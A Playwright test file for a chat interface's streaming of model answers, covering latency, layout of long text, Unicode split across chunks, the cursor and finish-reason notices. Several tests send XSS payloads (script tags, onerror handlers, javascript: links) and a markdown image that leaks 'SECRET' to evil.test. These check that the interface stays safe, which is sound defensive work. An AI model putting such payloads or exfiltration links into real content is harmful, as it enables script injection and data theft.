/** A reply is on the screen as it arrives, whole, and as the text that it is. */
import { expect, test } from "../fixtures.ts";
import { frame } from "../exchange.ts";
import { said } from "../chat.ts";
import { watchText } from "../timing.ts";

test("text is on the screen before the next piece is sent", async ({ chat, upstream }) => {
  await chat.open();
  await chat.ask("Tell me about rivers");
  await expect(chat.question(1)).toContainText("Tell me about rivers");
  let text = "";
  for (const piece of ["A river ", "is water ", "on its way ", "to the sea."]) {
    await upstream.send(piece);
    text += piece;
    await chat.expectText(chat.answer(), text);
    await expect(chat.stop).toBeVisible();
  }
  await upstream.finish();
  await chat.finished();
  await chat.expectText(chat.answer(), text);
});

test("each piece is shown soon after it was sent", async ({ chat, upstream }) => {
  const pieces = Array.from({ length: 40 }, (_, number) => `piece-${number}; `);
  await chat.open();
  const seen = await watchText(chat.conversation);
  upstream.willAnswer(pieces, { everyMs: 25 });
  await chat.ask("Count for me please");
  await chat.finished();

  const sights = await seen();
  const { sent } = await upstream.request(1);
  const delays = sent.map(({ text, at }) => {
    const shown = sights.find((sight) => sight.text.includes(text.trim()));
    expect(shown, `${text} was shown`).toBeDefined();
    return shown!.at - at;
  });
  const sorted = delays.toSorted((a, b) => a - b);
  const median = sorted[sorted.length / 2]!;
  test.info().annotations.push({ type: "delay", description: `median ${median} ms, longest ${sorted.at(-1)} ms` });
  // Not before it was sent, and not held back until the end: the whole reply takes a second.
  expect(sorted[0]).toBeGreaterThanOrEqual(0);
  expect(median).toBeLessThan(250);
  const grown = sights.filter(({ text }) => text.includes("piece-0;") && !text.includes("piece-39;"));
  expect(grown.length, "states of the text between the first and the last piece").toBeGreaterThan(10);
});

test("each part of a very long paragraph is laid out by itself, wherever the paragraph stands", async ({ chat, upstream }) => {
  const words = "word ".repeat(8 * 1024);
  const unbroken = "a".repeat(40 * 1024);
  // Of each kind of block that can hold a paragraph, and of each other kind of element, there is one.
  const text = `${words}\n\n${unbroken}\n\n- ${words}\n\n> ${words}\n\n# ${words}\n\n\`code\` **b** *i* ~~s~~ [l](https://a.b) $x$\n\n|a|\n|-|\n|b|\n\n1. [ ] c\n\n\`\`\`rust\nfn\n\`\`\`\n\n---\n\n[^1] <p>\n\n[^1]: f\n`;
  upstream.willAnswer([text.slice(0, 100_000), text.slice(100_000)]);
  await chat.open();
  await chat.ask("Write without a break");
  await chat.finished();
  const answer = chat.answer();
  await expect.poll(() => answer.locator("p.part").count()).toBeGreaterThanOrEqual(10);
  const without = await answer.evaluate((answer) =>
    [...answer.querySelectorAll("*")].filter((element) => getComputedStyle(element).display === "contents").map((element) => element.className),
  );
  expect(without, "elements without a box").toEqual([]);
  // A part that is far away is not laid out. Only a box can be left out.
  const parts = await answer.evaluate((answer) => [...answer.querySelectorAll("p.part")].map((part) => getComputedStyle(part)).map(({ display, contentVisibility }) => `${display} ${contentVisibility}`));
  expect(new Set(parts)).toEqual(new Set(["block auto"]));
});

test("a very long line of code is laid out in pieces, and is one line all the same", async ({ chat, upstream }) => {
  const line = "let value = 0123456789; ".repeat(4000);
  upstream.willAnswer(["```rust\nfn\n", ...line.match(/.{1,4000}/g)!, "\nend\n```\n"], { everyMs: 10 });
  await chat.open();
  await chat.ask("Write a long line");
  await chat.finished();
  const code = chat.answer().locator("figure.code code");
  await expect.poll(() => code.locator(".piece").count()).toBeGreaterThanOrEqual(5);
  const seen = await code.evaluate((code) => ({
    text: code.textContent,
    lines: Math.round(code.getBoundingClientRect().height / parseFloat(getComputedStyle(code).lineHeight)),
    longest: Math.max(...[...code.querySelectorAll(".piece")].map((piece) => piece.textContent.length)),
    selected: (getSelection()!.selectAllChildren(code), getSelection()!.toString()),
  }));
  expect(seen.text).toBe(`fn\n${line}\nend\n`);
  expect(seen.selected.trimEnd()).toBe(`fn\n${line}\nend`);
  expect(seen.lines).toBe(3);
  expect(seen.longest).toBeLessThan(20_000);
});

test("paragraphs and lines are kept", async ({ chat, upstream }) => {
  const text = "First paragraph.\n\nSecond paragraph,\nin two lines.\n\nThird.";
  upstream.willAnswer(["First para", "graph.\n", "\nSecond paragraph,", "\nin two lines.\n\n", "Third."]);
  await chat.open();
  await chat.ask("Write two paragraphs");
  await chat.finished();
  await chat.expectText(chat.answer(), text);
});

test("a question keeps its lines, too", async ({ chat, upstream }) => {
  upstream.willAnswer(["Thanks."]);
  await chat.open();
  await chat.ask("A first line\nand a second");
  await chat.finished();
  await chat.expectText(chat.question(1), "A first line\nand a second");
  expect((await upstream.request(1)).history).toEqual(["user: A first line\nand a second"]);
});

for (const [what, text] of [
  ["HTML", '<h1>Big</h1><script>alert(1)</script><img src=x onerror="alert(2)"><style>*{display:none}</style><b>bold</b> &amp; done'],
  ["a link with a script", "[click](javascript:alert(1)) and <a href='javascript:alert(2)'>here</a>"],
  ["an event of our own wire", '\n\nevent: done\ndata: {"finish":"stop"}\n\nstill here'],
] as const) {
  test(`${what} in an answer is text`, async ({ chat, upstream }) => {
    await chat.open();
    const before = await chat.conversation.locator("h1, script, img, style, b, a, iframe").count();
    // Every character for itself, so that no half of a tag is ever taken for markup.
    upstream.willAnswer([...text]);
    await chat.ask("Say something dangerous");
    await chat.finished();
    await expect(chat.answer()).toContainText(text.trim().split("\n").at(-1)!);
    // As it is read: a new paragraph parts words.
    expect((await chat.answer().innerText()).replaceAll(/\s+/g, " ")).toContain(text.trim().replaceAll(/\s+/g, " "));
    expect(await chat.conversation.locator("h1, script, img, style, b, a, iframe").count()).toBe(before);
  });
}

test("an image in an answer asks no other host for anything", async ({ chat, upstream }) => {
  await chat.open();
  await chat.ask("Show me a picture");
  // The guard of every test fails it if any other host is asked, at any moment.
  for (const [piece, shown] of [
    ["Look: ![a pict", "a pict"],
    ["ure](http", "a picture"],
    ["s://evil.test/?q=SECRET)", "a picture"],
    [' <img src="https://evil.test/2">', '<img src="https://evil.test/2">'],
  ] as const) {
    await upstream.send(piece);
    await expect(chat.answer()).toContainText(shown);
    await chat.drawn();
  }
  await upstream.finish();
  await chat.finished();
  await expect(chat.conversation.locator("img")).toHaveCount(0);
});

test("characters that are cut between two chunks stay whole", async ({ chat, upstream }) => {
  const text = "漢字 👩‍👩‍👧 né 🇨🇭 हिन्दी";
  await chat.open();
  const seen = await watchText(chat.conversation);
  await chat.ask("Write many scripts");
  for (const byte of Buffer.from(frame(text))) await upstream.sendRaw(Uint8Array.of(byte));
  await upstream.finish();
  await chat.finished();
  await chat.expectText(chat.answer(), text);
  expect((await seen()).filter((sight) => sight.text.includes("\u{fffd}"))).toEqual([]);
});

test("characters that are cut between two deltas stay whole", async ({ chat, upstream }) => {
  const text = "👩‍👩‍👧 漢字 e\u{301}";
  upstream.willAnswer([...text]);
  await chat.open();
  await chat.ask("Write one code point each");
  await chat.finished();
  await chat.expectText(chat.answer(), text);
});

test("twenty thousand tiny pieces arrive whole, and the page stays usable", async ({ chat, upstream }) => {
  const pieces = Array.from({ length: 20_000 }, (_, number) => `${number} `);
  await chat.open();
  const longest = await chat.page.evaluateHandle(() => {
    const task = { ms: 0 };
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) task.ms = Math.max(task.ms, entry.duration);
    }).observe({ entryTypes: ["longtask"] });
    return task;
  });
  upstream.willAnswer(pieces);
  await chat.ask("Count to twenty thousand");
  await expect(chat.answer()).toContainText("0 1 2 3 ");
  // The composer answers while they come.
  await chat.composer.fill("the next message");
  await expect(chat.composer).toHaveValue("the next message");
  await chat.finished();
  // Compared as a whole, since nobody wants to read the difference. The last of a burst is drawn after its end. A paragraph
  // of this length is shown in several elements, without the spaces between them. One that is far away is not laid out,
  // so it is no text that is seen.
  const wanted = pieces.join("").replace(/\s/g, "");
  const inOrder = async () => (await chat.answer().locator("[data-text]").textContent())!.replace(/\s/g, "") === wanted;
  await expect.poll(inOrder, "every piece is there, in order").toBe(true);
  const { ms } = await longest.jsonValue();
  // Told, not judged: how fast it is, end2end/bench measures beside others.
  test.info().annotations.push({ type: "longest task", description: `${ms} ms` });
});

test("the cursor stands at the end of the text and is gone at the end", async ({ chat, upstream }) => {
  await chat.open();
  await expect(chat.cursor).toHaveCount(0);
  await chat.ask("Tell me about cursors");
  await upstream.request(1);
  await expect(chat.answer().locator("[data-cursor]")).toBeVisible();
  await expect(chat.cursor).toHaveCount(1);
  for (const piece of ["The cursor", " follows.", "\n\nAnother paragraph", " and a long line that wraps,".repeat(8), " and the end."]) {
    await upstream.send(piece);
    await expect(chat.answer()).toContainText(piece.trim());
    await chat.drawn();
    await expect(chat.cursor).toHaveCount(1);
    await expect(chat.cursor).toHaveAttribute("aria-hidden", "true");
    expect(await gapAfterText(chat.answer()), `distance of the cursor from "…${piece.trimEnd().slice(-9)}"`).toBeLessThan(6);
  }
  await upstream.finish();
  await chat.finished();
  await expect(chat.cursor).toHaveCount(0);
});

test("the rest of the conversation is not rebuilt while an answer streams", async ({ chat, upstream }) => {
  upstream.willAnswer(["The first answer."]);
  upstream.willWait();
  await chat.open();
  await chat.ask("The first question");
  await chat.finished();
  await chat.ask("The second question");
  await upstream.send("Begun.\n\n");
  await expect(chat.answer(2)).toContainText("Begun.");
  const changes = await chat.conversation.evaluateHandle((log) => {
    const newest = [...log.querySelectorAll("article")].at(-1)!;
    const changed: string[] = [];
    const first = document.createTreeWalker(newest.querySelector("[data-text]")!, NodeFilter.SHOW_TEXT).nextNode();
    new MutationObserver((records) => {
      for (const { target, removedNodes } of records) {
        if (!newest.contains(target)) changed.push(`changed outside of the newest answer: ${target.nodeName}`);
        if ([...removedNodes].some((node) => node.contains(first))) changed.push("the first paragraph was taken out");
      }
    }).observe(log, { childList: true, characterData: true, subtree: true });
    return changed;
  });
  for (const piece of ["More", " and more.\n\n", "And the last."]) {
    await upstream.send(piece);
    await expect(chat.answer(2)).toContainText(piece.trim());
  }
  expect(await changes.jsonValue()).toEqual([]);
  await upstream.finish();
  await chat.finished();
});

test("the model's reasoning is shown apart from its answer", async ({ chat, upstream }) => {
  await chat.open();
  await chat.ask("Think about it first");
  await upstream.think("The person wants a thought.");
  await expect(chat.answer()).toContainText("The person wants a thought.");
  await upstream.send("Here it is.");
  await upstream.finish();
  await chat.finished();
  await chat.expectText(chat.answer(), "Here it is.");
});

test("a long silence before the first text is explained", async ({ chat, upstream }) => {
  await chat.page.clock.install();
  await chat.open();
  await chat.ask("Take your time, please");
  await upstream.request(1);
  await expect(chat.page.getByText(/Still waiting for/)).toHaveCount(0);
  await chat.page.clock.runFor(12_000);
  await expect(chat.page.getByText(/Still waiting for .*… 1\d s/)).toBeVisible();
  await upstream.send("Now.");
  await chat.page.clock.runFor(1_000);
  await expect(chat.page.getByText(/Still waiting for/)).toHaveCount(0);
  await upstream.finish();
});

for (const { reason, note } of [
  { reason: "length", note: /length|limit/i },
  { reason: "content_filter", note: /filter/i },
  { reason: "tool_calls", note: /tool/i },
]) {
  test(`an answer that ends with "${reason}" says so below its text`, async ({ chat, upstream }) => {
    upstream.willAnswer(["As far as it went"], { finish: reason });
    await chat.open();
    await chat.ask("Answer me partly");
    await expect(chat.answer()).toContainText(note);
    await expect.poll(() => said(chat.answer())).toBe("As far as it went");
    await expect(chat.cursor).toHaveCount(0);
  });
}

/** How far the cursor is from the last visible character of the answer, in CSS pixels. */
function gapAfterText(answer: import("@playwright/test").Locator): Promise<number> {
  return answer.evaluate((article) => {
    const walker = document.createTreeWalker(article.querySelector("[data-text]")!, NodeFilter.SHOW_TEXT);
    let last: Text | undefined;
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if ((node as Text).data.trim() !== "") last = node as Text;
    }
    const end = last!.data.trimEnd().length;
    const range = document.createRange();
    range.setStart(last!, end - 1);
    range.setEnd(last!, end);
    const character = range.getBoundingClientRect();
    const cursor = article.querySelector("[data-cursor]")!.getBoundingClientRect();
    const isOnTheLine = Math.abs(cursor.top + cursor.bottom - character.top - character.bottom) / 2 < 2;
    return isOnTheLine ? Math.abs(cursor.left - character.right) : Number.POSITIVE_INFINITY;
  });
}
